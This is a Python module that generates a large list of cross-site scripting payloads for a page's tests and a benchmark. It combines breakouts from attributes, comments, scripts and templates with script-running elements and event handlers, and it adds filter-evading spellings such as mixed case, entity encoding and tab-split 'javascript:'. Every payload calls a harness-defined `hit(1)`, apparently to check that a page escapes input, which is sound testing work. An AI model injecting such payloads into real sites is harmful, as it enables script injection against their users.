"""Strings that would run a script if anything let them: written out for the tests of the page and for the benchmark.

They are made of parts: a way out of where the text stands, an element or attribute that runs something, and a spelling that a
filter may overlook. Every one calls `hit()`, which nothing on the page defines; the harness does.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

CALL = "hit(1)"
LONGEST = 380
"""Characters: the report cuts longer texts, and a cut string would prove nothing."""

OUT = (
    "",
    '">',
    "'>",
    "-->",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "]]>",
    "</svg>",
    '"></summary>',
    "&quot;>",
    "\x00",
    "`>",
)
"""Ways out of an attribute, a comment, a script, a style sheet, a title, a text field."""

RUNNING = (
    "<script>{call}</script>",
    "<script src=data:text/javascript,{call}></script>",
    "<script type=module>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src=x: onerror='{call}'//",
    "<image href=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributename=x>",
    '<svg><a xlink:href="javascript:{call}"><text y=20>x</text></a>',
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<body onload={call}>",
    "<body onpageshow={call}>",
    "<iframe onload={call}></iframe>",
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    '<iframe src="javascript:parent.{call}"></iframe>',
    '<object data="javascript:{call}" onerror={call}></object>',
    "<embed src=x: onerror={call}>",
    "<video src=x onerror={call}></video>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<details open ontoggle={call}>x</details>",
    "<marquee onstart={call}>x</marquee>",
    "<style onload={call}></style>",
    "<link rel=stylesheet href=x: onerror={call}>",
    '<a href="javascript:{call}">x</a>',
    "<button onclick={call}>x</button>",
    '<form action="javascript:{call}"><button>x</button></form>',
    '<button form=f formaction="javascript:{call}">x</button><form id=f></form>',
    "<div onmouseover={call}>x</div>",
    "<p onpointerover={call} style=position:fixed;inset:0>x</p>",
    "<dialog open onfocusin={call} tabindex=0 autofocus>x</dialog>",
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    "<template><script>{call}</script></template><img src=x onerror={call}>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",
    "<xss contenteditable autofocus tabindex=1 onfocus={call}>x</xss>",
)
"""Elements that run something by themselves, or once somebody points at, focuses or presses them."""

ATTRIBUTES = (
    '" autofocus onfocus={call} x="',
    "' autofocus onfocus={call} x='",
    '" onmouseover={call} x="',
    '" style=animation-name:x onanimationstart={call} x="',
    " onload={call} ",
    '"onclick={call}//',
    "x onerror={call}",
    "javascript:{call}",
    "data:text/html,<script>parent.{call}</script>",
)
"""Attributes for one that the text may stand in."""

CODE = (
    '";{call}//',
    "';{call}//",
    "`;${{{call}}}`",
    "</script><script>{call}//",
    "\u2028{call}//",
    "{{{{constructor.constructor('{call}')()}}}}",
    "{{%print {call}%}}",
    "{{{{ {call} }}}}",
    "<!--<script>{call}",
    "]}}}};{call};[{{",
)
"""Ways out of a script's text, and marks of template languages."""


def spelled(text: str) -> Iterator[str]:
    """The string, and the spellings that a filter may overlook."""
    yield text
    yield text.replace("script", "ScRiPt").replace("onerror", "oNeRRoR").replace("onload", "OnLoAd")
    yield text.replace(" on", "/on").replace(" src", "/src")
    yield text.replace(" on", "\non").replace(" src", "\tsrc").replace("javascript:", "java\tscript:")
    yield text.replace("javascript:", "&#106;avascript:").replace("hit(1)", "&#104;it(1)")
    yield text.replace("hit(1)", "hit`1`")


def strings() -> list[str]:
    """Every string once, in a fixed order: well over a thousand."""
    made = [out + one.format(call=CALL) for one, out in itertools.product(RUNNING, OUT)]
    plain = [one.format(call=CALL) for one in (*RUNNING, *ATTRIBUTES, *CODE)]
    every = [*made, *(other for one in (*plain, *made[::5]) for other in spelled(one))]
    return [one for one in dict.fromkeys(every) if len(one) <= LONGEST]
